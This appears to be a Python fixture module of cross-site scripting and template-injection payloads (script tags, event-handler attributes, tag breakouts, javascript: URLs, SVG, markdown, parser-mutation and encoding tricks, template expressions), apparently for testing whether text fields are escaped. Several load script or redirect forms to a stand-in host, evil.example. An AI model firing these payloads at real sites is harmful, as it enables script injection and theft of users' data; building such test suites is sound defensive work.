"""Words that try to become markup or script: tags, attributes, addresses, script strings, SVG, markdown, mutations, templates."""

SHORTEST = 40  # characters that the shortest text field takes (pronouns): payloads up to here go through every field

TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20>alert(1)</script\x20>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//e>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q>",
    "<a href=javascript:alert(1)>x</a>",
    "<plaintext>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`//",
    "<button popovertarget=p onclick=alert(1)>b",
]
ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "` onload=alert(1) `",
    '" hx-get="/x" hx-trigger="load" x="',
    '" hx-on:click="alert(1)',
    '" style="position:fixed;inset:0" x="',
    '"/><b hx-on::load=alert(1)>',
]
ENDS = [
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    "vbscript:msgbox(1)",
]
SCRIPT_STRINGS = [
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "${alert(1)}",
    "`;alert(1);`",
    "</script><!--<script>",
]
SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=javascript:alert(1)>",
]
MARKDOWN = ["[x](javascript:alert(1))", "![x](x onerror=alert(1))", "<http://evil.example>"]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
TEMPLATES = [
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user }}",
    "{% load anchored %}{% csrf_token %}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(password)s",
    "{0.__class__}",
]

PAYLOADS = TAGS + ATTRIBUTES + ENDS + ADDRESSES + SCRIPT_STRINGS + SVG + MARKDOWN + MUTATIONS + TEMPLATES
SHORT = [payload for payload in PAYLOADS if len(payload) <= SHORTEST]


def is_markup(payload):
    """Whether the raw payload would mean something to a browser where text stands: it must not be in a page as it is."""
    return any(sign in payload for sign in "<>\"'")
